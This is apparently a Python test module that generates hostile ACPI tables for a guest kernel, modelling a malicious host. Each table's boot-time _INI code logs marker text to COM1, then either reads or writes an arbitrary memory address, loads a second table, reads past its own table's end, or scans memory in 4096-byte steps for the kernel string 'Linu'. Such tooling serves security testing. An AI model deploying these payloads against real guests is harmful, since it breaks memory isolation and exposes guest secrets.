"""ACPI tables with byte code, as a hostile host writes them.

Just enough of AML (ACPI specification 6.5, 20.2) for a device whose `_INI`, which every kernel runs
while it starts, writes to the serial port and touches memory.
"""

from __future__ import annotations

import struct

SYSTEM_MEMORY, SYSTEM_IO = 0, 1  # address spaces
COM1 = 0x3F8
# Operators, by their names in the specification
EXT, NAME, SCOPE, METHOD, STORE = b"\x5b", b"\x08", b"\x10", b"\x14", b"\x70"
DEVICE, REGION, FIELD = EXT + b"\x82", EXT + b"\x80", EXT + b"\x81"
TABLE_REGION, LOAD, BUFFER = EXT + b"\x88", EXT + b"\x20", b"\x11"
BYTE, WORD, DWORD, QWORD, STRING = b"\x0a", b"\x0b", b"\x0c", b"\x0e", b"\x0d"
LOCAL0, ARGUMENT = b"\x60", b"\x68"
WHILE, RETURN, ADD, EQUAL, NOT = b"\xa2", b"\xa4", b"\x72", b"\x93", b"\x92"
SERIALIZED = 8  # a method's flag: it may declare names
ACCESS = {8: 1, 32: 3}  # bits of a field: its AccessType
HEADER = struct.Struct("<4sIBB6s8sI4sI")
LENGTH_AT, CHECKSUM_AT = 4, 9  # bytes of a table's header


def length(value: int) -> bytes:
    """A number as PkgLength writes it: one byte below 64, else the low 4 bits and bytes."""
    if value < 64:
        return bytes([value])
    more = -(-(value.bit_length() - 4) // 8)
    return bytes([more << 6 | value & 15]) + (value >> 4).to_bytes(more, "little")


def package(content: bytes) -> bytes:
    """Content behind its length, which counts its own bytes."""
    own = next(n for n in range(1, 5) if len(length(len(content) + n)) <= n)
    return length(len(content) + own) + content


def fields(region: bytes, name: str, bits: int, offset: int = 0) -> bytes:
    """One field of `bits` (8 or 32) at an offset, in bytes, of a region."""
    skipped = b"\0" + length(8 * offset) if offset else b""
    return FIELD + package(region + bytes([ACCESS[bits]]) + skipped + name.encode() + length(bits))


def field(name: str, space: int, address: int, bits: int) -> bytes:
    """One field at an address, in a region of its own."""
    region = b"R" + name[1:].encode()
    where = QWORD + struct.pack("<Q", address) + BYTE + bytes([bits // 8])
    return REGION + region + bytes([space]) + where + fields(region, name, bits)


def say(text: str) -> bytes:
    """Write text to the field COM1."""
    return b"".join(STORE + BYTE + bytes([byte]) + b"COM1" for byte in text.encode())


def touch(*, write: bool = False) -> bytes:
    """Read the field MEM1, or write 0 to it."""
    return STORE + DWORD + bytes(4) + b"MEM1" if write else STORE + b"MEM1" + LOCAL0


def whole(signature: str, oem: str, body: bytes) -> bytes:
    """A table with its header."""
    names = oem.encode().ljust(6), oem.encode().ljust(8)
    size = HEADER.size + len(body)
    table = bytearray(
        HEADER.pack(signature.encode(), size, 2, 0, *names, 1, b"HOST", 1) + body,
    )
    table[CHECKSUM_AT] = -sum(table) & 0xFF
    return bytes(table)


def device(objects: bytes, code: bytes, signature: str = "SSDT", oem: str = "HOST") -> bytes:
    """A table with a device of some named objects, whose `_INI` is some code."""
    content = b"HST0" + (NAME + b"_HID" + STRING + b"HOST0001\0") + objects
    content += field("COM1", SYSTEM_IO, COM1, 8) + METHOD + package(b"_INI\0" + code)
    return whole(signature, oem, SCOPE + package(b"\\_SB_" + DEVICE + package(content)))


def table(
    address: int,
    *,
    write: bool = False,
    signature: str = "SSDT",
    oem: str = "HOST",
    before: str,
    after: str,
) -> bytes:
    """A table whose code says `before`, touches four bytes of memory, and says `after`."""
    code = say(before) + touch(write=write) + say(after)
    return device(field("MEM1", SYSTEM_MEMORY, address, 32), code, signature, oem)


def loaded(address: int, *, before: str, after: str) -> bytes:
    """The same, in a second table that the first one's code brings along and loads."""
    inner = field("COM1", SYSTEM_IO, COM1, 8) + field("MEM1", SYSTEM_MEMORY, address, 32)
    inner = whole("SSDT", "INNER", inner + say(before) + touch() + say(after))
    size = WORD + struct.pack("<H", len(inner))
    brought = NAME + b"BUF1" + BUFFER + package(size + inner)
    return device(brought, LOAD + b"BUF1" + LOCAL0)


def beyond(offset: int, *, before: str, after: str) -> bytes:
    """A table that is a region of itself, makes it longer, and reads behind its end.

    The code says `before`, writes the length in the header, declares the region once more, reads
    four bytes at an offset, and says `after`.
    """

    def region(name: bytes) -> bytes:
        identity = b"".join(STRING + text + b"\0" for text in (b"SSDT", b"HOST  ", b"HOST    "))
        return TABLE_REGION + name + identity

    header = region(b"TBL1") + fields(b"TBL1", "LEN1", 32, LENGTH_AT)
    code = say(before) + STORE + DWORD + struct.pack("<I", 1 << 30) + b"LEN1"
    code += region(b"TBL2") + fields(b"TBL2", "MEM1", 32, offset) + touch() + say(after)
    return device(header, code)


def search(start: int, *, before: str, after: str) -> bytes:
    """A table whose code reads memory from an address on, until it finds the word "Linu"."""
    region = REGION + b"RGN1" + bytes([SYSTEM_MEMORY]) + ARGUMENT + BYTE + b"\4"
    read = region + fields(b"RGN1", "MEM1", 32) + RETURN + b"MEM1"
    method = METHOD + package(b"READ" + bytes([SERIALIZED | 1]) + read)
    found = EQUAL + b"READ" + LOCAL0 + DWORD + b"Linu"
    step = STORE + ADD + LOCAL0 + DWORD + struct.pack("<I", 4096) + b"\0" + LOCAL0
    look = WHILE + package(NOT + found + step)
    code = say(before) + STORE + DWORD + struct.pack("<I", start) + LOCAL0 + look + say(after)
    return device(method, code)
